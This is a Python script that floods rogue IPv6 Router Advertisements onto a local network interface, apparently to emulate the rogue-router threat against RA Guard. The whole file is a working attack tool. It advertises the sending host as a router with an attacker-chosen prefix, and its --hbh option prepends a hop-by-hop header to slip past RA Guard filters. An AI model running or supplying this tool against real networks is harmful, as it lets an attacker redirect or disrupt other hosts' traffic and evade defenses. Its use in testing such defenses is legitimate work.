#!/usr/bin/env python3
"""ra: send Router Advertisements, as a rogue guest would (RFC 6105's
threat): to ff02::1 on one interface, hop limit 255, from the interface's
link-local address (or --src, which must be one of its addresses), with a
/64 prefix (on-link, autonomous) and a source link-layer address option.
The kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket.

  ra.py --ifname eth0 --prefix 2001:db8:bad:: --mac 02:0b:ad:0b:ad:01 \
        [--src fe80::bad:1] [--hbh] [--interval-ms 10] [--duration 5]

--hbh puts a hop-by-hop options header (a PadN) before the ICMPv6 one, as
RA guard evasion does (RFC 7113): a filter that looks only at the IPv6
header's next header misses it.

Prints "sent N" on stdout when done (or on SIGTERM)."""
import argparse
import signal
import socket
import struct
import sys
import time

ND_ROUTER_ADVERT = 134
OPT_SLLA, OPT_PREFIX = 1, 3


def advert(prefix, mac):
    # type, code, checksum, cur hop limit, flags, router lifetime (s),
    # reachable time, retrans timer
    ra = struct.pack("!BBHBBHII", ND_ROUTER_ADVERT, 0, 0, 64, 0, 1800, 0, 0)
    ra += struct.pack("!BB6s", OPT_SLLA, 1, bytes.fromhex(mac.replace(":", "")))
    # length 4 (32 bytes): /64, L and A, valid 1 day, preferred 4 h
    ra += struct.pack("!BBBBIII16s", OPT_PREFIX, 4, 64, 0xC0, 86400, 14400, 0,
                      socket.inet_pton(socket.AF_INET6, prefix))
    return ra


def main():
    p = argparse.ArgumentParser(description="send router advertisements")
    p.add_argument("--ifname", required=True)
    p.add_argument("--prefix", required=True, help="the /64 advertised")
    p.add_argument("--mac", required=True, help="the source link-layer address option")
    p.add_argument("--src", help="source address (default: the kernel's choice, the link-local)")
    p.add_argument("--hbh", action="store_true", help="behind a hop-by-hop options header")
    p.add_argument("--interval-ms", type=float, default=10)
    p.add_argument("--duration", type=float, default=5)
    a = p.parse_args()

    ifindex = socket.if_nametoindex(a.ifname)
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, ifindex)
    # not looped back: the sender does not take its own advertisement
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
    if a.hbh:
        # next header (the kernel's), length 0 (8 bytes), PadN of 4
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_HOPOPTS, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    if a.src:
        s.bind((a.src, 0, 0, ifindex))
    msg = advert(a.prefix, a.mac)
    sent = 0
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    end = time.monotonic() + a.duration
    while not stop and time.monotonic() < end:
        s.sendto(msg, ("ff02::1", 0, 0, ifindex))
        sent += 1
        time.sleep(a.interval_ms / 1000)
    print("sent", sent)
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
